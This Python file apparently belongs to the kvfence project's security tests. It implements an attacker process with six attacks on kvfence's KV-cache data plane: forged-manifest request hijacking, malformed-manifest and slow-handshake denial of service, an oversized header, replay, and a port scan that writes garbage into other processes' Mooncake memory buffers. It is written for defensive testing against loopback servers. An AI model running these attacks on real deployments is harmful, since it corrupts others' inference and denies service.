"""An attacker on the worker network, as a separate process: it can reach the ports of a kvfence deployment, knows
kvfence's source (so it builds frames, manifests, digests and canaries with kvfence's own code), reads /server_info,
and does not hold the cluster key. tests/test_attacks.py runs it against real `kvfence serve` processes; it prints
one JSON line saying what it achieved. Attacks:

  hijack     send a manifest + pages of its own KV for a victim's request id, racing prefill (the wire format
             kvfence used before the planes were authenticated, then the authenticated one with a guessed key)
  dos        send a malformed manifest for the victim's request id, to fail it
  header     send a frame prefix announcing a 4 GiB header, and hold the connection open
  replay     send bytes recorded from another connection
  dribble    answer decode's handshake challenge one byte a second, to hold one of its few pending-handshake
             places for as long as each read alone is within the handshake timeout
  mooncake   read what decode's Mooncake receiver tells an unauthenticated peer (before authentication its hello
             named its engine's session and the regions it registered); then, for `--seconds`, find Mooncake
             engines on every listening loopback port (`/proc/net/tcp`, what `ss -ltn` shows any local user), ask
             each for its first registered buffer with a fresh engine of its own (Mooncake caches a peer's
             buffer list per engine) and write garbage into every buffer found

It never touches anything but loopback ports it is given.
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import socket
import struct
import sys
import time
from typing import Any

OLD_PREFIX = struct.Struct("<II")  # the pre-authentication wire format: header_len | payload_len | header | payload


def _host_port(address: str) -> tuple[str, int]:
    host, _, port = address.split("://", 1)[1].rpartition(":")
    return host, int(port)


def _old_frame(header: dict[str, Any], payload: bytes = b"") -> bytes:
    hb = json.dumps(header).encode()
    return OLD_PREFIX.pack(len(hb), len(payload)) + hb + payload


def _read_old_frame(sock: socket.socket) -> dict[str, Any] | None:
    """One frame in the old format, or None when the peer speaks something else or hangs up."""
    try:
        prefix = sock.recv(8, socket.MSG_WAITALL)
        if len(prefix) < 8:
            return None
        hlen, plen = OLD_PREFIX.unpack(prefix)
        if hlen > 1 << 20:
            return None  # not a frame header: e.g. an authenticated receiver's challenge
        header = json.loads(sock.recv(hlen, socket.MSG_WAITALL))
        if plen:
            sock.recv(plen, socket.MSG_WAITALL)
        return header if isinstance(header, dict) else None
    except (OSError, ValueError):
        return None


def _server_info(url: str) -> dict[str, Any]:
    import httpx

    return httpx.get(url + "/server_info", timeout=10).json()


def _forged_pages(info: dict[str, Any], rid: str, xid: str, prompt: list[int]) -> tuple[Any, list[bytes]]:
    """A manifest for `prompt` over pages of the attacker's own KV, with digests and canaries that fit them."""
    import torch

    from kvfence.integrity.manifest import build_manifest
    from kvfence.kv.layout import KVLayout
    from kvfence.kv.pool import KVPool

    engine = info.get("engine", info)  # the router's part of /server_info
    layout = KVLayout.from_description(engine["roles"]["decode"]["layout"])
    n = -(-len(prompt) // layout.page_size)
    pool = KVPool(layout, n)
    g = torch.Generator().manual_seed(1234)
    for layer in pool.tensors:
        for t in layer.values():
            t.copy_((torch.randn(t.shape, generator=g) * 3).to(t.dtype))  # KV of the attacker's choosing
    manifest = build_manifest(rid, xid, prompt, pool, list(range(n)))
    return manifest, [pool.read_page(p) for p in range(n)]


def hijack(args: argparse.Namespace) -> dict[str, Any]:
    info = _server_info(args.server)
    prompt = json.loads(args.prompt_ids)
    xid = secrets.token_hex(16)
    manifest, pages = _forged_pages(info, args.rid, xid, prompt)
    bpp = len(pages[0])
    idx = list(range(len(pages)))
    # manifest, pages and done in one write: decode verifies them before prefill's own manifest can arrive
    burst = (
        _old_frame({"t": "manifest", "rid": args.rid, "xid": xid}, manifest.to_bytes())
        + _old_frame({"t": "pages", "rid": args.rid, "xid": xid, "seq": 0, "idx": idx, "nb": [bpp] * len(pages)},
                     b"".join(pages))
        + _old_frame({"t": "done", "rid": args.rid, "xid": xid, "pages": len(pages)})
    )  # fmt: skip
    replies: list[Any] = []
    tries = 0
    deadline = time.monotonic() + args.seconds
    with socket.create_connection(_host_port(args.decode), timeout=5) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        _ready(args)
        while time.monotonic() < deadline:  # one connection, a burst after each refusal, until a slot takes it
            s.sendall(burst)
            tries += 1
            first = _read_old_frame(s)
            if first is None:  # not the old protocol: try the authenticated one with a key we do not have
                replies.append(_try_authenticated(args.decode))
                return {"accepted": False, "tries": tries, "replies": replies}
            if first.get("t") == "error" and "does not expect" in str(first.get("reason", "")):
                _read_old_frame(s)  # the chunk_ack of the discarded pages
                continue
            replies.append(first)
            if first.get("t") == "error":
                return {"accepted": False, "tries": tries, "replies": replies}  # prefill's manifest came first
            while (f := _read_old_frame(s)) is not None:
                replies.append(f)
                if f.get("t") in ("verdict", "abort", "error"):
                    return {"accepted": f.get("t") == "verdict" and bool(f.get("ok")), "tries": tries,
                            "replies": replies[-5:]}  # fmt: skip
            break
    return {"accepted": False, "tries": tries, "replies": replies[-5:] or ["no slot for the victim within the time"]}


def _try_authenticated(address: str) -> str:
    """Speak the authenticated protocol with a guessed key: the receiver must hang up."""
    from kvfence.auth import handshake

    try:
        with socket.create_connection(_host_port(address), timeout=5) as s:
            handshake.connect(s, secrets.token_bytes(32), 5.0)
            return "authenticated with a guessed key (!)"
    except (OSError, handshake.HandshakeError) as e:
        return f"refused: {e}"


def _ready(args: argparse.Namespace) -> None:
    """Tell whoever started us that the attack is under way (`--ready-file`)."""
    if args.ready_file:
        open(args.ready_file, "w").close()


def dos(args: argparse.Namespace) -> dict[str, Any]:
    replies: list[Any] = []
    _ready(args)
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(_host_port(args.decode), timeout=5) as s:
                s.sendall(_old_frame({"t": "manifest", "rid": args.rid, "xid": "dos"}, b"{not a manifest"))
                reply = _read_old_frame(s)
                replies.append(reply)
                if reply is None:
                    replies.append(_try_authenticated(args.decode))
                    break
                if "does not expect" in str(reply.get("reason", "")):
                    time.sleep(0.005)
                    continue
                return {"accepted": True, "replies": replies[-5:]}  # decode took it into the victim's slot
        except OSError as e:
            replies.append(f"{type(e).__name__}: {e}")
            time.sleep(0.01)
    return {"accepted": False, "replies": [r for r in replies if r is not None][-5:]}


def header(args: argparse.Namespace) -> dict[str, Any]:
    s = socket.create_connection(_host_port(args.decode), timeout=5)
    s.sendall(OLD_PREFIX.pack(0xFFFFFFFF, 0))  # a 4 GiB header announced; nothing follows
    _ready(args)
    time.sleep(args.seconds)
    s.settimeout(0.5)
    try:
        closed = s.recv(1 << 16) == b"" or s.recv(1) == b""
    except TimeoutError:
        closed = False
    except OSError:
        closed = True
    s.close()
    return {"closed_by_peer": closed}


def dribble(args: argparse.Namespace) -> dict[str, Any]:
    s = socket.create_connection(_host_port(args.decode), timeout=5)
    t0 = time.monotonic()
    s.settimeout(5)
    hello = s.recv(40, socket.MSG_WAITALL)  # the receiver's challenge: MAGIC and its nonce
    _ready(args)
    sent, held = 0, None
    s.settimeout(1.0)
    while time.monotonic() - t0 < args.seconds:
        try:
            s.send(b"\x00")
            sent += 1
            if s.recv(1) == b"":  # a read that ends: the receiver hung up
                held = time.monotonic() - t0
                break
        except TimeoutError:
            continue  # still open: a second passed, send the next byte
        except OSError:
            held = time.monotonic() - t0
            break
    s.close()
    return {"hello_bytes": len(hello), "bytes_sent": sent, "held_s": held}


def replay(args: argparse.Namespace) -> dict[str, Any]:
    data = bytes.fromhex(open(args.recording).read())
    host_port = _host_port(args.target)
    with socket.create_connection(host_port, timeout=5) as s:
        s.sendall(data)
        time.sleep(args.seconds)
        s.settimeout(0.5)
        try:
            got = s.recv(1 << 16)
        except (TimeoutError, OSError):
            got = b""
    return {"sent": len(data), "answer_bytes": len(got)}


def _listening_ports() -> set[int]:
    """TCP ports in LISTEN state on this host, as any local user can read them."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if fields[3] == "0A":  # TCP_LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


def mooncake(args: argparse.Namespace) -> dict[str, Any]:
    import torch

    from kvfence.transfer.mooncake_engine import MooncakeEndpoint

    with socket.create_connection(_host_port(args.decode), timeout=5) as s:
        hello = _read_old_frame(s)
    told = hello is not None and "session" in hello  # what the pre-authentication receiver told anyone
    junk = torch.full((64 << 10,), 0x7F, dtype=torch.uint8)
    found: dict[str, set[int]] = {}
    rounds = writes = landed = 0
    _ready(args)
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline or rounds < args.min_rounds:
        ep = MooncakeEndpoint("127.0.0.1")  # fresh: a new engine fetches each peer's buffer list again
        ep.register(junk)
        for port in sorted(_listening_ports() - {ep.rpc_port}):
            session = f"127.0.0.1:{port}"
            addr = int(ep._engine.get_first_buffer_address(session))
            if addr == 0:
                continue
            found.setdefault(session, set()).add(addr)
            rc = ep._engine.transfer_sync_write(session, junk.data_ptr(), addr, junk.numel())
            writes += 1
            landed += rc == 0
        ep.close()
        rounds += 1
    return {"hello_told_session": told, "rounds": rounds, "buffers_found": sum(len(v) for v in found.values()),
            "writes": writes, "landed": landed}  # fmt: skip


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("attack", choices=["hijack", "dos", "header", "replay", "mooncake", "dribble"])
    p.add_argument("--server", default="")
    p.add_argument("--decode", default="", help="decode's data-plane address (tcp://... or mooncake://...)")
    p.add_argument("--target", default="", help="replay: tcp://host:port")
    p.add_argument("--rid", default="")
    p.add_argument("--prompt-ids", default="[]")
    p.add_argument("--recording", default="")
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--min-rounds", type=int, default=1, help="mooncake: scan rounds to finish, however long they take")
    p.add_argument("--ready-file", default="", help="created once the attack is under way")
    args = p.parse_args()
    result = {"hijack": hijack, "dos": dos, "header": header, "replay": replay, "mooncake": mooncake,
              "dribble": dribble}[args.attack](args)  # fmt: skip
    print(json.dumps(result, default=str), flush=True)
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
